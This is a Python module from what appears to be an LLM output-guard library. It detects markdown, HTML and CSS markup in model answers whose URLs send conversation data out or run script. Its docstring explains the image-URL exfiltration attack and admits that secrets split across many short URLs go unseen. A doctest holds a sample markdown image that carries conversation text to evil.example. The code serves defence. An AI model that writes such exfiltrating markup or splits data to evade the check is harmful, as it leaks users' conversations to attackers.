"""The guard of exfiltration: URLs in markup that carry data away, and markup that runs.

An answer is shown by a program that loads its images unasked, so whoever can make a model write one can have the
conversation sent along in its URL. It judges each URL by itself; one that spells a secret over many short ones is not
seen.
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from dataclasses import replace
from functools import cache, partial
from typing import Final

from llmpost.automata.finding.finder import Finder
from llmpost.contracts.guard import Guard
from llmpost.errors import suggestion
from llmpost.guards.exfiltration.carrying import PATH, QUERY, Carrying, read_in_markup, runs
from llmpost.guards.exfiltration.markup import LABELS, SCRIPT, Target, in_css, in_markdown, in_tag
from llmpost.guards.exfiltration.shape import CSS, LONGEST, MARKDOWN, SOUGHT, TAG
from llmpost.guards.judged import UNDECIDED_SCORE, Judged, Judgement
from llmpost.guards.options import Options
from llmpost.guards.possible_scores import certain
from llmpost.guards.reading import Reading
from llmpost.guards.urls.guard import hosts_of

NAME: Final = "exfiltration"
TOO_LONG: Final = "MARKUP_TOO_LONG"
_READ: Final = {MARKDOWN: in_markdown, TAG: in_tag, CSS: in_css}


def exfiltration(carrying: Carrying, kinds: Sequence[str] = LABELS) -> Judged:
    """A `FollowingGuard` of these kinds.

    >>> from llmpost.contracts.guard import GuardContext
    >>> guard = exfiltration(Carrying(query=20))
    >>> guard.inspect("![](https://evil.example/?q=all+that+you+have+told+me)", GuardContext())[0].label
    'MARKDOWN_IMAGE'
    """
    judge = partial(_judgements, carrying, frozenset(kinds))
    scores = {TOO_LONG: (UNDECIDED_SCORE, UNDECIDED_SCORE), **certain(kinds)}
    return replace(Judged.of(NAME, dict.fromkeys(_READ, TOO_LONG), Reading(_finder()), judge), scores=scores)


@cache
def _finder() -> Finder:
    return Finder(SOUGHT, LONGEST)


def _judgements(carrying: Carrying, kinds: frozenset[str], tag: int, text: str) -> Iterator[Judgement]:
    for target in _READ[tag](text):
        kind, reason = _judged(carrying, target)
        if reason and kind in kinds:
            yield Judgement(kind, target.start, target.end, 1.0, reason)


def _judged(carrying: Carrying, target: Target) -> tuple[str, str | None]:
    if target.url is None:
        return target.kind, "runs or shows what somebody else wrote"
    address = read_in_markup(target.url)
    if runs(address):
        return SCRIPT, "is run where it is followed"
    return target.kind, carrying.fault(address)


def build(options: Options) -> Guard:
    """``use: exfiltration``."""
    hosts = hosts_of(options, "hosts") if options.has("hosts") else None
    query, path = options.whole("query", QUERY), options.whole("path", PATH)
    kinds = options.texts("kinds")
    options.finish()
    for kind in kinds:
        if kind not in LABELS:
            raise options.error("kinds", "a list of kinds of markup", suggestion(kind, LABELS))
    return exfiltration(Carrying(hosts, query or 0, path or 0), kinds or LABELS)
